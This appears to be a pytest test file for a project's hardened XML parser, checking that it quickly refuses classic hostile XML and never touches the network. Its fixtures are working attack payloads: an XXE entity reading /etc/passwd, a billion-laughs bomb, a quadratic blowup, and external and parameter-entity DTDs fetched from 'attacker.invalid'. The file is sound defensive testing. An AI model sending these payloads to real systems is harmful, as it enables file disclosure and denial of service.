"""The hardened XML parser refuses every classic XML attack, quickly and offline."""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator
from typing import Any

import pytest
from lxml import etree

from hub.core import xmlsafe
from hub.core.errors import InputError

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<r>&xxe;</r>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.invalid/evil.dtd">
<r>x</r>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
<r/>"""

QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><r>'
    + b"&a;" * 20_000
    + b"</r>"
)


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Any connection attempt fails the test: the parser must never touch the network."""

    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("the XML parser tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    yield


@pytest.mark.parametrize(
    "doc",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY, QUADRATIC],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity", "quadratic-blowup"],
)
def test_dtd_based_attacks_are_refused_fast(doc: bytes) -> None:
    start = time.perf_counter()
    with pytest.raises(InputError, match="not accepted") as err:
        xmlsafe.parse(doc)
    assert err.value.code == "hostile_xml"
    assert time.perf_counter() - start < 0.1


@pytest.mark.parametrize(
    "doc",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, QUADRATIC],
    ids=["xxe", "billion-laughs", "external-dtd", "quadratic-blowup"],
)
def test_the_parser_itself_would_not_expand_or_fetch(doc: bytes) -> None:
    """Defence in depth: even past the DOCTYPE scan, nothing is resolved or fetched
    (libxml2 either refuses the document or leaves the entities unexpanded)."""
    try:
        root = etree.fromstring(doc, parser=xmlsafe._parser())
    except etree.XMLSyntaxError as exc:  # amplification limit, network entity refused
        assert "amplification" in str(exc) or "network" in str(exc)
        return
    text = etree.tostring(root)
    assert b"root:" not in text  # /etc/passwd not read
    assert len(text) < 100_000  # no expansion


def test_doctype_hidden_in_utf16_is_refused() -> None:
    """UTF-16 is read (XML 1.0 §4.3.3, audit J F6): its prolog is read decoded."""
    with pytest.raises(InputError, match="not accepted") as err:
        xmlsafe.parse(
            XXE.replace(b'version="1.0"', b'version="1.0" encoding="UTF-16"')
            .decode()
            .encode("utf-16")
        )
    assert err.value.code == "hostile_xml"


def test_oversize_is_refused_before_parsing() -> None:
    doc = b"<r>" + b"x" * 100 + b"</r>"
    with pytest.raises(InputError, match="above the 50 cap") as err:
        xmlsafe.parse(doc, max_bytes=50)
    assert err.value.code == "hostile_xml"
    assert xmlsafe.parse(doc).text == "x" * 100


def test_default_size_cap() -> None:
    doc = b"<r>" + b"x" * xmlsafe.DEFAULT_MAX_BYTES + b"</r>"
    with pytest.raises(InputError, match="cap"):
        xmlsafe.parse(doc)


def test_depth_cap() -> None:
    ok = b"<a>" * 64 + b"</a>" * 64
    assert xmlsafe.parse(ok).tag == "a"
    with pytest.raises(InputError, match="deeper than 64") as err:
        xmlsafe.parse(b"<a>" * 65 + b"</a>" * 65)
    assert err.value.code == "hostile_xml"
    with pytest.raises(InputError, match="deeper than 3"):
        xmlsafe.parse(b"<a><b><c><d/></c></b></a>", max_depth=3)


def test_very_deep_document_is_refused_by_libxml2_limit_too() -> None:
    start = time.perf_counter()
    with pytest.raises(InputError) as err:
        xmlsafe.parse(b"<a>" * 100_000 + b"</a>" * 100_000, max_depth=1_000_000)
    assert err.value.code == "hostile_xml"
    assert time.perf_counter() - start < 1


@pytest.mark.parametrize(
    "doc",
    [b"", b"<a>", b"<a></b>", b"<a/><b/>", b"<a>&undefined;</a>", b"not xml", b"<a b='1' b='2'/>"],
)
def test_malformed(doc: bytes) -> None:
    with pytest.raises(InputError) as err:
        xmlsafe.parse(doc)
    assert err.value.code == "malformed_xml"
    assert "\n" not in str(err.value)


def test_non_bytes_input() -> None:
    with pytest.raises(InputError, match="must be bytes"):
        xmlsafe.parse("<a/>")  # type: ignore[arg-type]


def test_normal_document_comments_and_pis_dropped() -> None:
    root = xmlsafe.parse(
        b'<?xml version="1.0" encoding="UTF-8"?><!-- c --><a><?pi x?>'
        b"<b>&lt;&#233;&amp;</b><![CDATA[<z>]]></a>"
    )
    assert [c.tag for c in root] == ["b"]
    assert root[0].text == "<é&"
    assert root[0].tail == "<z>"


def test_latin1_declared_document_is_fine() -> None:
    root = xmlsafe.parse('<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>'.encode("latin-1"))
    assert root.text == "é"
